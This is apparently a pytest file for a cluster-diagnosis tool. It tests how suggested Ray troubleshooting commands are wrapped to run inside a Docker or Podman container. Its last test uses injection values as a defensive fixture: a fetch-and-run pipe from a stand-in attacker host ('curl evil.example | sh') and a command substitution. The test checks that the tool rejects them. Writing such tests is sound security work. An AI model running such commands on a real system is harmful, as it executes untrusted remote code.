"""On the Docker path a command of a finding names what exists there: the container, and its name."""

from __future__ import annotations

import json
import shlex
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.diagnose.test_explain import FILE, attempt
from tui.cli.main import main
from wizard_steps.diagnose import Source, contained, diagnose
from wizard_steps.diagnose.explain import findings_of

WALKS = Path(__file__).parents[2] / "snapshots/walks"
IT = "docker exec milepost-prod-b"


@pytest.mark.parametrize(
    ("command", "wanted"),
    [
        ("ray status", f"{IT} ray status"),
        ("ray status; nvidia-smi -L", f"{IT} ray status; nvidia-smi -L"),
        (
            "ls -t /tmp/ray/session_latest/logs/worker-*.err | head -3 | xargs tail -n 30",
            f"{IT} sh -c 'ls -t /tmp/ray/session_latest/logs/worker-*.err | head -3 | xargs tail -n 30'",
        ),
        ("sudo dmesg -T | tail -5; free -g", "sudo dmesg -T | tail -5; free -g"),
        ("docker logs x; python -V", f"docker logs x; {IT} python -V"),
    ],
)
def test_what_is_in_the_image_runs_there(command: str, wanted: str) -> None:
    assert contained.inside(command, IT) == wanted


def test_a_text_that_names_its_container_is_looked_at_there() -> None:
    said = (
        "container milepost-prod-b\nA worker died or was killed while executing a task by an unexpected "
        "system error.\n"
    )
    (found,) = [one for one in diagnose([Source("x.log", said)]) if one.kind != "hint"]
    commands = [action.command for action in found.try_ if "/tmp/ray/" in action.command]
    assert commands
    assert all(command.startswith(f"{IT} sh -c ") for command in commands)


@pytest.mark.parametrize("name", ["docker-killed", "healthy-docker"])
def test_a_recorded_walk_brings_its_cluster_file(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    main(["diagnose", str(WALKS / name), "--json"])
    found = json.loads(capsys.readouterr().out)
    assert all("CONTAINER" not in action.get("command", "") for one in found for action in one["try"])
    if name == "docker-killed":
        assert "docker logs --tail 50 milepost-" in json.dumps(found)


@given(st.text())
def test_any_command_stays_one(command: str) -> None:
    contained.inside(command, IT)
    contained.by(command, "sudo -n podman")


def test_the_engine_of_the_cluster_file_takes_the_place_of_docker() -> None:
    found = contained.by("docker logs x; systemctl show docker; (docker ps | wc -l)", "sudo -n podman")
    assert found == "sudo -n podman logs x; systemctl show docker; (sudo -n podman ps | wc -l)"


def test_semicolons_in_quotes_are_no_ends() -> None:
    text = "python -c 'import sys; print(sys.path)'; ip -br -4 addr"
    found = contained.inside(text, IT)
    assert shlex.split(found)[:5] == [*shlex.split(IT), "sh", "-c"]
    assert found.endswith("; ip -br -4 addr")


def test_a_killed_container_is_named_before_what_its_log_says() -> None:
    said = (
        "container: ended with exit code 137\noom-killed: false\ncontainer milepost-prod-b\n"
        "log: (APIServer pid=9) WARNING 11-26 01:58:20 [system_utils.py:255] Found ulimit of 20000 and failed to "
        "automatically increase. This can cause fd limit errors like `OSError: [Errno 24] Too many open files`\n"
    )
    state, spool = attempt(("b", said), cluster={**FILE, "path": "docker", "name": "prod"})
    first = findings_of(state, "head", spool)[0]
    assert first.rule == "container-killed"
    commands = " ".join(action.command for action in first.try_)
    assert "docker logs --tail 50 milepost-prod-b" in commands
    assert "CONTAINER" not in commands


@pytest.mark.parametrize(
    ("path", "wanted"), [("docker", "docker exec milepost-prod-b sh -c"), ("bare-metal", "")]
)
def test_commands_go_where_the_path_has_them(path: str, wanted: str) -> None:
    said = "A worker died or was killed while executing a task by an unexpected system error.\n"
    state, spool = attempt(("b", said), cluster={**FILE, "path": path, "name": "prod"})
    commands = [action.command for action in findings_of(state, "head", spool)[0].try_]
    logs = next(command for command in commands if "/tmp/ray/" in command)
    assert logs.startswith(wanted or "ls -t")


@pytest.mark.parametrize(
    ("engine", "wanted"),
    [
        ("sudo -n podman", "sudo -n podman exec "),
        ("docker; curl evil.example | sh #", "docker exec "),
        ("$(touch /tmp/x)", "docker exec "),
    ],
)
def test_the_engine_of_a_strangers_recording_is_no_command(engine: str, wanted: str) -> None:
    said = "A worker died or was killed while executing a task by an unexpected system error.\n"
    cluster = {**FILE, "path": "docker", "name": "prod", "docker": {"command": engine}}
    state, spool = attempt(("b", said), cluster=cluster)
    commands = [action.command for action in findings_of(state, "head", spool)[0].try_]
    logs = next(command for command in commands if "/tmp/ray/" in command)
    assert logs.startswith(f"{wanted}milepost-prod-b sh -c")
